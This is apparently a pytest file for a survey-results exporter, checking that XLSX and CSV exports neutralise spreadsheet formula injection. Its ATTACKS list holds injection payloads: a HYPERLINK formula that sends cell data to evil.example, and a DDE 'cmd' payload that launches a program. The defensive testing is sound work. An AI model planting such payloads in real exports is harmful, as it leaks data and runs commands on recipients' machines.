"""Whatever a text looks like, a spreadsheet that opens an export runs none of it."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.exports.csv_file import Dialect, csv_file
from bot.exports.harmless import MARK, harmless, risky
from bot.exports.material import Material
from bot.exports.rows import rows
from bot.exports.workbook import workbook
from bot.maturity.instrument import Wording
from bot.results.views import federation_view
from tests.fakes.editions import edition, round_of
from tests.fakes.materials import PROGRAM, federation, texts

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1;"klicka")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\N{MINUS SIGN}1+1",
    " =1+1",
    "\N{ZERO WIDTH SPACE}=1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "=cmd|' /C calc'!A0",
    "http://evil.example/",
    "{=1+1}",
)
"""Also as a round's label and as the names of municipalities, items and options: people write those."""
FORMULA = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula"
CELL = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}table-cell"


def attacked() -> Material:
    """An edition and a round in which every text that people write is an attack."""
    held = round_of()
    attack = iter(ATTACKS * 20)
    organisations = tuple(replace(each, title=next(attack)) for each in held.instrument.organisations)
    items = tuple(
        replace(
            each,
            topic=Wording(word := next(attack), word),
            question=Wording(word, word),
            options=tuple(replace(option, label=Wording(say := next(attack), say)) for option in each.options),
        )
        for each in held.instrument.items
    )
    instrument = replace(held.instrument, organisations=organisations, items=items, title=Wording("=2+2", "=2+2"))
    told = replace(edition(), label="=1+1")
    named = replace(held, label="=1+1", instrument=instrument, diary_number="@SUM(A1)")
    return Material(federation_view(told), named, program=PROGRAM)


def test_d15_every_cell_of_the_workbook_is_a_text_or_a_number() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(attacked(), texts(), "sv")))
    cells = [cell for page in book for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert not [cell for cell in cells if cell.hyperlink is not None]
    told = {cell.value for cell in cells if cell.data_type == "s"}
    assert {each for each in ATTACKS if each.isprintable()} <= told, "what was written is shown as it was written"
    assert not book.defined_names


@pytest.mark.parametrize("dialect", Dialect)
def test_d15_no_text_of_the_csv_begins_as_a_formula_does_and_numbers_stay_numbers(dialect: Dialect) -> None:
    material = attacked()
    file = csv_file(rows(material.view, material.round, "sv"), dialect).decode("utf-8-sig")
    delimiter = {Dialect.RFC4180: ",", Dialect.SV: ";"}[dialect]
    read = [cell for row in csv.reader(io.StringIO(file, newline=""), delimiter=delimiter) for cell in row]
    assert [cell for cell in read if risky(cell)] == []
    assert f"{MARK}=1+1" in read
    assert f"{MARK}＝1+1" in read


@pytest.mark.parametrize("attack", ATTACKS)
def test_d15_attacks_are_recognised(attack: str) -> None:
    assert harmless(attack) == (attack if attack.startswith(("http", "{")) else MARK + attack)


@given(st.text(max_size=20))
def test_d15_nothing_that_is_left_is_risky_and_nothing_is_lost(text: str) -> None:
    assert not risky(harmless(text))
    assert harmless(text).removeprefix(MARK) == text.removeprefix(MARK)
    if text[:1].isalpha() and text[:1].isascii():
        assert harmless(text) == text


@pytest.mark.slow
def test_d15_libreoffice_finds_no_formula(tmp_path: Path, request: pytest.FixtureRequest) -> None:
    office = shutil.which("soffice")
    if office is None:
        if request.config.getoption("--require-client"):
            pytest.fail("LibreOffice is missing; `make browser` installs it")
        pytest.skip("LibreOffice is not installed; `make browser` installs it")
    material = attacked()
    (tmp_path / "book.xlsx").write_bytes(workbook(material, texts(), "sv"))
    (tmp_path / "table.csv").write_bytes(csv_file(rows(material.view, material.round, "sv")))
    (tmp_path / "unprotected.csv").write_text("a,b\r\n=1+1,x\r\n", encoding="utf-8")
    convert(office, tmp_path, "book.xlsx")
    # Commas, UTF-8, and formulas evaluated where the file has any: the most dangerous way to open it.
    evaluating = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    convert(office, tmp_path, "table.csv", "unprotected.csv", infilter=evaluating)
    for name in ("book", "table"):
        assert formulas(tmp_path / f"{name}.fods") == [], name
    assert formulas(tmp_path / "unprotected.fods"), "LibreOffice would have found a formula"


def convert(office: str, folder: Path, *names: str, infilter: str = "") -> None:
    """Open files in LibreOffice and write what it sees, as flat XML."""
    command = [office, "--headless", f"-env:UserInstallation=file://{folder / 'profile'}"]
    command += [f"--infilter={infilter}"] if infilter else []
    command += ["--convert-to", "fods", "--outdir", str(folder), *(str(folder / name) for name in names)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)


def formulas(file: Path) -> list[str]:
    """The formulas of all cells; fails where there are no cells."""
    cells = list(ElementTree.parse(file).iter(CELL))  # noqa: S314 - LibreOffice has just written it
    assert cells
    return [cell.attrib[FORMULA] for cell in cells if FORMULA in cell.attrib]


def test_the_workbook_has_its_sheets_and_says_that_no_model_wrote_it() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(federation(), texts(), "sv")))
    assert book.sheetnames == [
        *("Resultat", "Fördelning", "Kommuner", "Områden", "Utveckling", "Svarsfrekvens", "Kodbok", "Metod", "Om")
    ]
    about = {row[0].value: row[1].value for row in book["Om"].iter_rows(min_row=2)}
    assert about["AI-genererat innehåll"] == "nej (ai_generated=false)"
    assert about["Minsta antal svar bakom en siffra"] == "5"
    assert book.custom_doc_props["ai_generated"].value is False
    assert book["Resultat"].freeze_panes == "C2"
    results = [[cell.value for cell in row] for row in book["Resultat"].iter_rows()]
    head, first = results[0], results[1]
    place = head.index("Index")
    assert isinstance(first[place], float)
    assert {"ja", "nej"} >= {row[head.index("Visas")] for row in results[1:]} - {"bara som intervall", "inga svar"}
    codes = [row[1].value for row in book["Kodbok"].iter_rows(min_row=2)]
    assert {"portfoljstyrning", "suppressed", "index_if_unknown_absent", "0"} <= set(codes)
    method = " ".join(str(row[1].value) for row in book["Metod"].iter_rows(min_row=2))
    assert "2 procent" in method, "known errors of 2024 are told"
    assert any("2025:1" in str(cell.value) for cell in book["Utveckling"][1])


def test_the_workbook_exists_in_english() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook(federation(), texts(), "en")), read_only=True)
    assert book.sheetnames[:3] == ["Results", "Distribution", "Municipalities"]
